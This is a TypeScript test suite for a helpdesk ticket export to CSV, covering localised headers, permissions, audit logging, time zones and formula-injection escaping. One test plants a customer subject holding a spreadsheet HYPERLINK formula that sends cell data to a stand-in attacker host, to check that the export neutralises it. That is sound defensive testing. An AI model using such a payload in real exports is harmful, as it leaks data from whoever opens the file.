import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agents, auditLog, fieldDefinitions, services, tickets } from '../../demo/server/db/schema.js';
import { findSession } from '../../demo/server/services/context.js';
import { writeExport, type AsAgent } from '../../demo/server/services/export/export-list.js';
import { csvLine } from '../../demo/server/services/export/csv.js';
import { words } from '../../demo/server/services/export/words.js';
import { en } from '../../src/strings/en.js';
import { ja } from '../../src/strings/ja.js';
import { ko } from '../../src/strings/ko.js';
import type { Language } from '../../src/domain/types.js';
import { startServer, type TestServer } from './support/server.js';
import { Desk } from './tickets/desk.js';

/** What a program reads from a file: RFC 4180, strictly. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let rest = text;
  while (rest !== '') {
    const row: string[] = [];
    for (;;) {
      const [whole, cell] = /^"((?:[^"]|"")*)"(?=,|\r\n)/.exec(rest) ?? [];
      if (whole === undefined || cell === undefined) throw new SyntaxError(`No cell: ${rest.slice(0, 40)}`);
      row.push(cell.replaceAll('""', '"'));
      rest = rest.slice(whole.length);
      const isLast = rest.startsWith('\r\n');
      rest = rest.slice(isLast ? 2 : 1);
      if (isLast) break;
    }
    rows.push(row);
  }
  return rows;
}

describe('a list as a file', () => {
  let server: TestServer;
  let desk: Desk;

  beforeAll(async () => {
    server = await startServer();
    desk = Desk.on(server);
  });
  afterAll(() => server.close());

  const audits = () => server.database.system((tx) => tx.select().from(auditLog).orderBy(auditLog.id));
  const exported = async (body: object, usercode = 'admin1') =>
    (await server.as(usercode)).post('/tickets/export.json', {
      query: 'view=all&sort=ticketId:asc',
      columns: ['ticketId', 'subject'],
      reason: '월간 보고',
      language: 'ko',
      ...body,
    });
  const rowsOf = async (body: object) => parse((await exported(body)).text.replace(/^\ufeff/, ''));

  it('holds the rows of the list in its order, as the list shows them, in the zone of the service', async () => {
    const ticketId = await desk.add(
      { customer: { name: '한지우', email: 'jiwoo@customer.example', phone: '010-1', usercode: 'u1' } },
      {
        status: 'resolved',
        resolution: 'internal',
        reason: 'duplicate',
        resolvedAt: desk.now,
        priority: 'urgent',
        assignee: 'agent1',
        assigneeName: '이준호',
        groupId: 1,
        groupName: '주문·배송',
        handlingTypeId: 102,
        transferKind: 'dooray',
        transferBy: 'agent1',
        transferAt: desk.now,
      },
    );
    const names = [
      'status',
      'priority',
      'customer',
      'assignee',
      'channel',
      'group',
      'createdAt',
      'resolvedAt',
      'ticketId',
    ];
    const more = [
      'handlingType',
      'language',
      'creator',
      'reason',
      'email',
      'phone',
      'usercode',
      'transfer',
      'category',
    ];
    expect(await rowsOf({ columns: [...names, ...more] })).toEqual([
      ['상태', '우선순위', '고객', '담당자', '유입채널', '담당그룹', '생성시간', '해결시간', '티켓 ID'].concat([
        '처리유형',
        '언어',
        '생성자',
        '내부해결 사유',
        '이메일',
        '전화번호',
        '아이디',
        '이관',
        '접수유형',
      ]),
      [
        '내부해결',
        '긴급',
        '한지우',
        '이준호',
        '이메일',
        '주문·배송',
        '2026-05-12 12:00:00',
        '2026-05-12 12:00:00',
        ticketId,
      ].concat(['이용 방법 안내', '한국어', '', '중복', 'jiwoo@customer.example', '010-1', 'u1', 'Dooray! 이관', '']),
    ]);
    expect((await rowsOf({ columns: ['status'], language: 'ja' }))[0]).toEqual(['ステータス']);
    expect(await rowsOf({ columns: ['status'], language: 'en', query: 'view=unassigned' })).toEqual([['Status']]);
  });

  it('is a file with a name that says what it is, which programs read as UTF-8', async () => {
    const { headers } = await exported({});
    expect(headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('Content-Disposition')).toContain('attachment; filename="tickets-demo-20260512-1200.csv"');
    expect(headers.get('Cache-Control')).toBe('no-store');
    const { token } = await server.as('admin1');
    const answer = await server.app.fetch(
      new Request('http://desk.test/demo/openapi/v1/console/tickets/export.json', {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ query: '', columns: ['subject'], reason: '확인', language: 'ko' }),
      }),
    );
    // Reading it as text would take the mark away.
    const bytes = new Uint8Array(await answer.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toMatch(/^"제목"\r\n/);
  });

  it.each([
    ['=1+1', `'=1+1`],
    ['+82', `'+82`],
    ['-5', `'-5`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\rx', `'\rx`],
    ['\nx', `'\nx`],
    ['  =1', `'  =1`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠x', `'＠x`],
    ['a=1', 'a=1'],
    ['3-1', '3-1'],
    ['', ''],
    ['가 "나", 다\n라\r\n마', '가 "나", 다\n라\r\n마'],
  ])('has nothing that calculates: %j', (text, cell) => {
    expect(parse(csvLine([text, 'end']))).toEqual([[cell, 'end']]);
  });

  it('keeps what customers wrote from calculating, quotes and lines included', async () => {
    const subject = '=HYPERLINK("http://evil.example?"&A1;"내역")';
    const ticketId = await desk.add({ subject });
    const rows = await rowsOf({});
    expect(rows).toContainEqual([ticketId, `'${subject}`]);
    expect(rows.every((row) => row.length === 2)).toBe(true);
  });

  it('has own fields by their names, and none that is encrypted', async () => {
    const field = { serviceId: 'demo', owner: 'customer', position: 90 } as const;
    await server.database.system((tx) =>
      tx.insert(fieldDefinitions).values([
        { ...field, code: 'fileText', type: 'text', names: { ko: '메모', en: 'Note' } },
        { ...field, code: 'fileSecret', type: 'text', names: { ko: '비밀' }, encrypted: true },
        { ...field, code: 'fileMany', type: 'checkbox', names: { ko: '여럿' }, options: ['가', '나'] },
        { ...field, code: 'fileAgree', type: 'agree', names: { ko: '동의' } },
      ]),
    );
    const fields = { fileText: '@x', fileSecret: 'canary', fileMany: ['가', '나'], fileAgree: true };
    const ticketId = await desk.add({ fields });
    const columns = ['ticketId', 'f.fileText', 'f.fileSecret', 'f.fileMany', 'f.fileAgree'];
    const rows = await rowsOf({ columns });
    expect(rows[0]).toEqual(['티켓 ID', '메모', '여럿', '동의']);
    expect(rows).toContainEqual([ticketId, `'@x`, '가, 나', '예']);
    expect((await rowsOf({ columns: ['f.fileText', 'f.fileMany'], language: 'en' }))[0]).toEqual(['Note', '여럿']);
  });

  it('is written down: who, when, from where, which list, what for', async () => {
    const query = 'view=all&starred=true&sort=updatedAt:desc';
    await exported({ query, reason: ' 감사 요청 ' });
    expect((await audits()).at(-1)).toMatchObject({
      serviceId: 'demo',
      usercode: 'admin1',
      name: '김서연',
      at: desk.now,
      client: '127.0.0.1',
      kind: 'exported',
      reason: '감사 요청',
      data: { query: new URLSearchParams(query).toString(), columns: ['ticketId', 'subject'], rows: 0 },
    });
  });

  it('is refused to those who may not, and that is written down too', async () => {
    const { status, body } = await exported({}, 'agent1');
    expect([status, body.result.content.code]).toEqual([403, 'needs_permission']);
    expect((await audits()).at(-1)).toMatchObject({
      usercode: 'agent1',
      kind: 'export_refused',
      reason: '월간 보고',
    });
  });

  it.each([
    [{ reason: ' ' }, 'reason'],
    [{ reason: '가'.repeat(201) }, 'reason'],
    [{ columns: [] }, 'columns'],
    [{ columns: ['ticketId', 'password'] }, 'columns.1'],
    [{ columns: ['f.nothing'] }, 'columns.0'],
    [{ columns: ['f.fileSecret'] }, 'columns'],
    [{ query: 'view=nothing' }, 'view'],
    [{ query: 'sort=f.nothing:asc' }, 'sort'],
    [{ language: 'fr' }, 'language'],
  ])('is refused with %j', async (wrong, field) => {
    const { status, body } = await exported(wrong);
    expect([status, body.result?.contents?.[0]?.field]).toEqual([400, field]);
  });

  it('holds nothing of another service, and all of a list that is longer than one piece', async () => {
    await desk.add({ subject: '外国' }, {}, 'demojp');
    const now = desk.now;
    const row = { serviceId: 'demo', status: 'pending', subject: '많음', channel: 'mail', language: 'ko' } as const;
    await server.database.system((tx) =>
      tx.insert(tickets).values(
        Array.from({ length: 1_203 }, (_, index) => ({
          ...row,
          ticketId: `T${String(index).padStart(13, '0')}piece`,
          createdAt: now,
          updatedAt: now - index,
        })),
      ),
    );
    const all = await rowsOf({ query: 'view=all&sort=updatedAt:desc' });
    expect(all.flat()).not.toContain('外国');
    const pieces = all
      .filter(([ticketId]) => ticketId?.endsWith('piece'))
      .map(([ticketId]) => Number(ticketId?.slice(1, 14)));
    expect(pieces).toEqual(Array.from({ length: 1_203 }, (_, index) => index));
  });

  it.each<[Language, typeof ko | typeof ja | typeof en]>([
    ['ko', ko],
    ['ja', ja],
    ['en', en],
  ])('has the words of the list in %s', (language, texts) => {
    const { status, priority, channel, reason, columns } = words[language];
    expect({ status, priority, channel, reason, language: words[language].language }).toEqual({
      status: texts.status,
      priority: texts.priority,
      channel: texts.channel,
      reason: texts.reason,
      language: texts.language,
    });
    expect([columns.customer, columns.group, columns.ticketId]).toEqual([
      texts.ticketList.customer,
      texts.ticketList.group,
      texts.ticketInfo.ticketId,
    ]);
  });

  it('is written down without the words that were searched for', async () => {
    await desk.add({ customer: { name: '카나리아', email: 'canary@customer.example' } });
    const query = new URLSearchParams({
      view: 'all',
      q: '카나리아',
      email: 'canary@',
      status: 'unassigned',
      customerId: '1',
    });
    expect((await exported({ query: query.toString() })).status).toBe(200);
    const logged = await audits();
    expect(JSON.stringify(logged)).not.toMatch(/카나리아|canary/);
    const kept = new URLSearchParams(String(logged.at(-1)?.data['query']));
    expect(Object.fromEntries(kept)).toMatchObject({ q: '*', email: '*', status: 'unassigned', customerId: '1' });
  });

  it('ends where the permission does, and leaves out tickets that are gone meanwhile', async () => {
    for (let made = 0; made < 6; made++) await desk.add();
    const agent = await server.as('admin1');
    const rights = async (permission: boolean) =>
      server.database.system((tx) =>
        tx
          .update(agents)
          .set({ permissions: sql`jsonb_set(${agents.permissions}, '{export}', ${String(permission)}::jsonb)` })
          .where(and(eq(agents.serviceId, 'demo'), eq(agents.usercode, 'admin1'))),
      );
    const session = await server.database.transaction({ serviceId: 'demo' }, (tx) => findSession(tx, 'demo', 'admin1'));
    const ids = await server.database.transaction({ serviceId: 'demo' }, (tx) =>
      tx.select({ id: tickets.ticketId }).from(tickets),
    );
    const gone = 'T0000000000000gone1';
    const plan = {
      columns: [{ heading: 'ID', text: ({ row }: { row: { ticketId: string } }) => row.ticketId }],
      fileName: 'x',
      ids: [gone, ...ids.slice(0, 2).map(({ id }) => id)],
    };
    const asAgent: AsAgent = (work) =>
      server.database.transaction({ serviceId: 'demo' }, async (tx) => {
        const now = await findSession(tx, 'demo', 'admin1');
        return work(tx, { session: now ?? session!, now: desk.now, client: 'test' });
      });
    const pieces: string[] = [];
    for await (const piece of writeExport(plan, asAgent)) pieces.push(piece);
    expect(parse(pieces.join('').replace(/^\ufeff/, '')).slice(1)).toEqual(ids.slice(0, 2).map(({ id }) => [id]));
    const withdrawn = writeExport(plan, asAgent);
    await withdrawn.next();
    await rights(false);
    await expect(withdrawn.next()).rejects.toMatchObject({ status: 403 });
    await rights(true);
    expect((await agent.post('/tickets/export.json', {})).status).toBe(400);
  });

  it('can be in the zone of another country', async () => {
    const zone = (timeZone: string) =>
      server.database.system((tx) => tx.update(services).set({ timeZone }).where(eq(services.serviceId, 'demo')));
    await zone('America/New_York');
    const ticketId = await desk.add();
    const rows = await rowsOf({ columns: ['ticketId', 'createdAt'] });
    expect(rows).toContainEqual([ticketId, '2026-05-11 23:00:00']);
    await zone('Asia/Seoul');
  });

  it('left the server without failures of its own', () => {
    expect(server.errors).toEqual([]);
  });
});
